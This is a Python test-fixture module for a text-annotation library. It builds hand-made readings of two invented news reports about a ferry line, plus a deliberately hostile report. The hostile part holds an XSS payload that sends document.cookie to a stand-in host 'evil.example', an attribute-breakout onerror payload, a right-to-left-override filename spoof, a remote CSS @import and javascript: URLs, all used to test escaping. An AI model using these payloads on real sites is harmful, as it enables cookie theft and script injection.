"""Piles made by hand: texts whose names, offices, figures, dates, statements and events are told, not read."""

import datetime as dt
import re
from collections.abc import Mapping, Sequence
from typing import Any

from msgspec import structs

from conspectus.records import (
    Block,
    Cut,
    Dating,
    Document,
    Entity,
    Event,
    EventMention,
    Expression,
    Extent,
    Figure,
    Forecast,
    Mention,
    Naming,
    Participant,
    Pile,
    Published,
    Reading,
    Role,
    Skipped,
    Span,
    Statement,
    Time,
    make_id,
)

SENTENCE = re.compile(r"\S.*?(?:[.!?](?=\s|$)|$)")


def day(text: str) -> Time:
    return Time(dt.date.fromisoformat(text), dt.date.fromisoformat(text), "day")


def year(number: int) -> Time:
    return Time(dt.date(number, 1, 1), dt.date(number, 12, 31), "year")


def read_by_hand(
    text: str,
    *,
    names: Mapping[str, str] | None = None,
    roles: Sequence[tuple[str, str, str, str | None]] = (),
    figures: Mapping[str, dict[str, Any]] | None = None,
    dates: Mapping[str, Time | None] | None = None,
    statements: Mapping[str, dict[str, Any]] | None = None,
    events: Mapping[str, dict[str, Any]] | None = None,
    forecasts: Mapping[str, dict[str, Any]] | None = None,
    published: Time | None = None,
    reason: str = "",
    **fields: Any,
) -> Reading:
    """Make a reading. The first line is the title, lines with `* ` are bullets, with `## ` headings.

    names: words -> entity id, marked wherever they stand. roles: (words, person, role, body). figures: words -> fields.
    dates: words -> time, None for a duration. statements, events, forecasts: words -> fields; pieces of a statement are
    parted by "|", mentions of an event too. Of everything but names the first place of the words counts.
    """
    values = {"path": "a.txt", "outlet": "The Quay", "title": None, "authors": (), "language": "en", **fields}
    values.setdefault("translated_from", None)
    blocks = _find_blocks(text)
    sentences = tuple(
        Extent(index, start, end, block)
        for index, (start, end, block) in enumerate(
            (block.start + m.start(), block.start + m.end(), at)
            for at, block in enumerate(blocks)
            for m in SENTENCE.finditer(text[block.start : block.end])
        )
    )
    document = Document(id=make_id("d", text), text=text, blocks=blocks, **values)

    def sentence_of(start: int) -> int:
        return next(s.index for s in sentences if s.start <= start < s.end)

    def span(words: str) -> Span:
        return find_span(document, words)

    def cut(words: str) -> list[Span]:
        return [span(part) for part in words.split("|")]

    def places(spans: Sequence[Span]) -> list[int]:
        return [sentence_of(found.start) for found in spans]

    mentions = [
        Mention(m.start(), m.end(), m[0], entity, "name", sentence_of(m.start()), rule="hand")
        for words, entity in (names or {}).items()
        for m in re.finditer(re.escape(words), text)
    ]
    return Reading(
        document=document,
        sentences=sentences,
        naming=Naming((), tuple(sorted(mentions, key=lambda m: (m.start, m.end, m.entity)))),
        dating=Dating(
            Published(published or Time(None, None, "open"), "metadata", (), reason),
            tuple(
                Expression(
                    index=index,
                    start=span(words).start,
                    end=span(words).end,
                    text=words,
                    sentence=sentence_of(span(words).start),
                    kind="date" if time else "duration",
                    form=words,
                    time=time,
                    rule="hand",
                )
                for index, (words, time) in enumerate((dates or {}).items())
            ),
        ),
        frames=(),
        roles=tuple(
            Role(
                id=make_id("r", document.id, words, role),
                person=person,
                role=role,
                of=body,
                observed=published or Time(None, None, "open"),
                span=span(words),
                sentence=sentence_of(span(words).start),
                rule="hand",
            )
            for words, person, role, body in roles
        ),
        figures=tuple(
            Figure(
                id=make_id("f", document.id, words),
                span=span(words),
                sentence=sentence_of(span(words).start),
                rule="hand",
                **{
                    "measure": None,
                    "value": None,
                    "low": None,
                    "high": None,
                    "unit": None,
                    "bound": "exact",
                    "time": None,
                    "about": (),
                    **told,
                },
            )
            for words, told in (figures or {}).items()
        ),
        statements=tuple(
            make_statement(document, cut(words), places(cut(words))[0], told)
            for words, told in (statements or {}).items()
        ),
        events=tuple(
            make_event(document, cut(words), places(cut(words)), told) for words, told in (events or {}).items()
        ),
        forecasts=tuple(
            Forecast(
                id=make_id("fc", document.id, words),
                span=span(words),
                sentence=sentence_of(span(words).start),
                rule="hand",
                **{"speaker": "author", "horizon": None, **told},
            )
            for words, told in (forecasts or {}).items()
        ),
    )


def make_statement(document: Document, spans: Sequence[Span], sentence: int, told: dict[str, Any]) -> Statement:
    cue = told.get("cue")
    given = {
        "speaker": None,
        "speaker_text": None,
        "manner": "indirect",
        "said": None,
        "venue": None,
        "about": (),
        **told,
        "cue": find_span(document, cue) if cue else None,
    }
    id = make_id("st", document.id, *(span.start for span in spans))
    return Statement(id=id, content=tuple(spans), sentence=sentence, rule="hand", **given)


def make_event(document: Document, spans: Sequence[Span], sentences: Sequence[int], told: dict[str, Any]) -> Event:
    """Make an event; `mentions` in `told` holds the fields of each mention that differ from the event's."""
    given = {"kind": "OTHER", "label": spans[0].text, "place": None, "time": None, "status": "occurred", **told}
    parties = tuple(Participant(entity, role) for entity, role in given.pop("participants", ()))
    differing = given.pop("mentions", ({},) * len(spans))
    mentions = tuple(
        EventMention(**{"span": span, "status": given["status"], "time": given["time"], "sentence": at, **own})
        for span, at, own in zip(spans, sentences, differing, strict=True)
    )
    id = make_id("ev", document.id, spans[0].start)
    return Event(id=id, participants=parties, mentions=mentions, sentence=sentences[0], rule="hand", **given)


def find_span(document: Document, words: str) -> Span:
    start = document.text.index(words)
    return document.span(start, start + len(words))


def _find_blocks(text: str) -> tuple[Block, ...]:
    blocks: list[Block] = []
    for match in re.finditer(r"[^\n]+", text):
        kind = "bullet" if match[0].startswith("* ") else "heading" if match[0].startswith("## ") else "paragraph"
        blocks.append(Block(match.start(), match.end(), kind if blocks else "title"))
    return tuple(blocks)


def make_pile(*readings: Reading, entities: Sequence[Entity], skipped: Sequence[Skipped] = ()) -> Pile:
    return Pile(tuple(sorted(readings, key=lambda r: r.document.id)), tuple(entities), tuple(skipped))


FERRY = "e-ferry"
HOLM = "e-holm"
MAYOR = "e-mayor"


def make_harbour_pile() -> Pile:
    """Two reports on a ferry line: nested and equal marks, a bullet, a heading, uncertain items, a skipped report."""
    first = read_by_hand(
        "Ferry line to Holm is saved\n"
        "Mayor Ada Lund of Holm said on 3 May 2019 that the ferry would sail again. It costs "
        "2.5 million kroner a year.\n"
        "## What next\n"
        "* The ferry carries about 90 people a day.\n"
        "* Nobody knows for how long.\n"
        "Why not?",
        names={"Ada Lund": MAYOR, "Holm": HOLM, "ferry": FERRY, "Ferry": FERRY},
        roles=[("Mayor Ada Lund of Holm", MAYOR, "mayor", HOLM)],
        figures={
            "2.5 million kroner a year": {"value": 2.5e6, "unit": "NOK", "measure": "cost", "about": (FERRY,)},
            "about 90 people": {"value": 90.0, "unit": "person", "bound": "about", "measure": "passengers a day"},
        },
        dates={"3 May 2019": day("2019-05-03"), "a year": None},
        statements={
            "that the ferry would sail again": {
                "speaker": MAYOR,
                "speaker_text": "Mayor Ada Lund of Holm",
                "cue": "said",
                "said": day("2019-05-03"),
                "about": (FERRY,),
            },
        },
        events={
            "the ferry would sail again": {
                "status": "planned",
                "participants": ((FERRY, "actor"),),
                "place": HOLM,
                "mentions": ({"holder": MAYOR},),
            },
            "Ferry line to Holm is saved": {"kind": "AID", "time": day("2019-05-03"), "label": "saving of the line"},
        },
        forecasts={"the ferry would sail again": {"speaker": MAYOR}},
        published=day("2019-05-04"),
        outlet="Holm Post",
        authors=("Ib Dahl",),
        left_out=(Cut("Share this", "share link"), Cut("Subscribe", "menu")),
    )
    second = read_by_hand(
        "Holm counts its losses\n"
        "In 2021 between 60 and 70 people a day took the ferry, which had lost 1.2 million kroner. "
        "Perhaps 5 came back. “It is gone,” a fisherman told the Post. “It will stay gone. We knew.”",
        names={"Holm": HOLM, "ferry": FERRY},
        figures={
            "between 60 and 70 people": {
                "low": 60.0,
                "high": 70.0,
                "unit": "person",
                "bound": "between",
                "time": year(2021),
            },
            "1.2 million kroner": {"value": 1.2e6, "unit": "NOK", "measure": "loss"},
            "5": {"value": 5.0, "confidence": 0.3},
        },
        dates={"2021": year(2021)},
        statements={
            "It is gone,|It will stay gone. We knew.": {
                "speaker_text": "a fisherman",
                "cue": "told",
                "manner": "direct",
                "venue": "the Post",
            },
            "Perhaps 5 came back": {"confidence": 0.2},
        },
        events={
            "the ferry, which had lost 1.2 million kroner|It is gone": {
                "label": "loss of the ferry",
                "time": year(2021),
                "participants": ((FERRY, "actor"), (HOLM, "recipient")),
                "mentions": ({}, {"status": "denied", "holder": None}),
            },
            "Perhaps 5 came back": {"status": "possible", "confidence": 0.3},
        },
        forecasts={"It will stay gone": {"speaker": None, "horizon": year(2023), "outcome": "open"}},
        published=year(2022),
        path="b.txt",
    )
    forecasts = tuple(structs.replace(f, statement=second.statements[0].id) for f in second.forecasts)
    second = structs.replace(second, forecasts=forecasts)
    return make_pile(
        first,
        second,
        entities=(
            Entity(FERRY, "project", "Holm ferry", ("ferry",)),
            Entity(HOLM, "place", "Holm"),
            Entity(MAYOR, "person", "Ada Lund", ("Mayor Lund",)),
            Entity("e-ghost", "organization", "Perhaps Ltd", confidence=0.2),
        ),
        skipped=(Skipped("scan.pdf", "read", "scan.pdf: holds no text"),),
    )


EVIL = '<script>fetch("//evil.example/"+document.cookie)</script>'
BREAKOUT = "\"><img src=x onerror=alert(1)><b title='"
OVERRIDE = "gpj.\u202eexe\u2066 \u200b"


def make_hostile_pile() -> Pile:
    """A report that tries to become markup, to leave attributes and the style sheet, and to turn the text around."""
    text = (
        f"Title {EVIL} </title></style></script>\n"
        f"The firm A{BREAKOUT} sold {OVERRIDE} for 3 <b>tons</b>. <!-- <a href=javascript:alert(2)>here</a> &lt;i&gt;\n"
        "</style><style>@import '//evil.example/x.css';*{display:none}</style> "
        "It said so in </span></article></main>2020."
    )
    reading = read_by_hand(
        text,
        names={f"A{BREAKOUT}": "e-evil", OVERRIDE: "e-turned"},
        roles=[(f"firm A{BREAKOUT}", "e-evil", f"boss {EVIL}", "e-turned")],
        figures={"3 <b>tons</b>": {"value": 3.0, "unit": "<b>ton</b>", "measure": EVIL, "about": ("e-evil",)}},
        dates={"2020": year(2020)},
        statements={
            "3 <b>tons</b>. <!-- |</style><style>@import": {"speaker": "e-evil", "venue": EVIL, "cue": "sold"},
            "in </span></article></main>2020": {"speaker_text": BREAKOUT, "manner": "direct"},
        },
        events={
            f"A{BREAKOUT} sold": {"kind": EVIL, "label": EVIL, "participants": (("e-turned", "recipient"),)},
            "&lt;i&gt;": {"label": BREAKOUT, "place": "e-evil", "status": "denied"},
        },
        forecasts={"here</a>": {"speaker": "e-evil"}},
        published=year(2020),
        reason=f"because {EVIL}",
        path=f'{BREAKOUT}/"a".txt',
        outlet=f"Outlet {BREAKOUT}",
        title=f"Title {EVIL}",
        authors=(EVIL, OVERRIDE),
        language='en"><script>',
        translated_from=EVIL,
        url="javascript:alert(3)",
        left_out=(Cut(EVIL, "menu"),),
    )
    return make_pile(
        reading,
        entities=(
            Entity("e-evil", "organization", f"A{BREAKOUT}", (EVIL, "</style>")),
            Entity("e-turned", "person", OVERRIDE),
        ),
        skipped=(Skipped(f"{EVIL}.html", "read", f"{BREAKOUT} too deep"),),
    )
